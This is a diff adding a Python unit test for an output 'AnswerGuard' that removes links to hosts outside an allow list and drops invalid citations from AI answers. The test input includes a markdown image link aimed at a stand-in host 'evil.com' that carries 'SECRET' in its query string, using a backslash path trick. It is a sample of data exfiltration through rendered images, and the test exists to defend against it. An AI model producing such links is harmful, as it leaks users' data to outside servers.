@@ -172,3 +172,11 @@ def test_text_already_sent_never_makes_the_guard_remove_what_follows():
     out = guard.feed("Then [docs](https://ok.com/d), see: www.evil.com/b and more.") + guard.finish()
     assert out == "Then [docs](https://ok.com/d), see: [removed] and more."
     assert guard.stats.escaped == 0 and guard.stats.removed == 1
+
+
+def test_sanitize_of_a_whole_text_applies_every_guard():
+    """ReAct falls back to ``sanitize(answer)`` when nothing was streamed: links must go there too."""
+    guard = AnswerGuard(GuardConfig(allowed_hosts=("ok.com",), valid_citations=frozenset({1})))
+    out = guard.sanitize("Done [1][7]. ![x](/\\evil.com/p.png?d=SECRET) [ok](https://ok.com/a)")
+    assert out == "Done [1].  [ok](https://ok.com/a)"
+    assert guard.stats.links_removed == 1 and guard.stats.citations_dropped == 1
